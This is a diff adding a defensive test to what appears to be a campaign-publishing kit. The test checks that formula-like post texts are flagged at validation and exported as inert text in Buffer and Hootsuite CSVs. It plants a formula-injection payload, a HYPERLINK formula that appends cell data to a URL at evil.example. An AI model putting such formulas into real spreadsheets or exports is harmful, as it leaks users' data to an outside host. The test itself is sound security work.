@@ -111,3 +111,35 @@ if [ -x "$REL/kit-publish" ]; then
 else
 	not_ok "the release programs are built ($REL)"
 fi
+
+# Spreadsheet formula injection (OWASP): a post text that starts with =
+# reaches the Buffer and Hootsuite CSV as text, not as a live formula, and
+# validation warns about it.
+cp -a "$KIT_SRC/campaigns/together-2016" "$T/formula"
+python3 - "$T/formula/campaign.json" <<'PY'
+import json, sys
+p = sys.argv[1]; c = json.load(open(p))
+for post in c["posts"]:
+    if post["id"] == "t16-x-en-1":
+        post["text"] = '=HYPERLINK("https://evil.example/?"&A1,"Click #Together")'
+    if post["id"] == "t16-x-en-3":
+        post["text"] = "@SUM(1+1) #Together"
+json.dump(c, open(p, "w"), ensure_ascii=False, indent=2)
+PY
+expect_exit 0 "a campaign with a formula-like post validates" kit-publish validate "$T/formula"
+if grep -q 'campaign.json:[0-9]*:[0-9]*: warning: post "t16-x-en-1" begins with =, +, -, @, a tab or CR, which a spreadsheet runs as a formula' "$T/out" "$T/err"; then
+	ok "with a warning at the post's text"; else not_ok "with a warning at the post's text" "$(cat "$T/out" "$T/err" | head -5)"; fi
+check "it builds" kit-publish build "$T/formula" --out "$T/formula-out" --quiet
+mkdir -p "$T/fk" && tar --zstd -xf "$T/formula-out/together-2016/global.tar.zst" -C "$T/fk"
+for fmt in buffer hootsuite; do
+	kit-schedule --kit "$T/fk" --now 2016-11-01T00:00:00Z csv --format $fmt --platform x >"$T/$fmt.csv" 2>"$T/err"
+	if python3 - "$T/$fmt.csv" <<'PY'
+import csv, sys
+cells = [c for row in csv.reader(open(sys.argv[1], newline="", encoding="utf-8")) for c in row]
+live = [c for c in cells if c and c[0] in "=+-@\t\r"]
+ok = any(c.startswith("'=HYPERLINK(") for c in cells) and any(c.startswith("'@SUM(") for c in cells)
+sys.exit(0 if ok and not live else 1)
+PY
+	then ok "$fmt CSV: the formulas are text (leading apostrophe), no cell starts a formula"
+	else not_ok "$fmt CSV: the formulas are text" "$(head -5 "$T/$fmt.csv")"; fi
+done
